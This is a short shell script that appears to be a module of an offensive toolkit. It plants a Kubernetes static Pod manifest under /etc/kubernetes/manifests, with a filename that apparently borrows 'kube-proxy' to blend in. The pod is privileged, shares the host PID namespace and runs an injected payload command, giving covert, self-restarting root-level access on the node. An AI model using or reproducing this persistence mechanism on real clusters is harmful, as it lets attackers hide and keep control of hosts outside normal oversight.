#!/bin/sh
# static-pod: a pod that kubelet starts by itself (kubelet, static Pods)
. "${0%/*}/lib.sh"
payload
put "/etc/kubernetes/manifests/$(named up kube-proxy).yaml" 600 "$head" \
	"apiVersion: v1" "kind: Pod" "metadata:" "  name: up" "spec:" \
	"  hostPID: true" "  containers:" "  - name: up" \
	"    image: docker.io/library/alpine:3" "    command: [$argj]" \
	"    securityContext:" "      privileged: true"
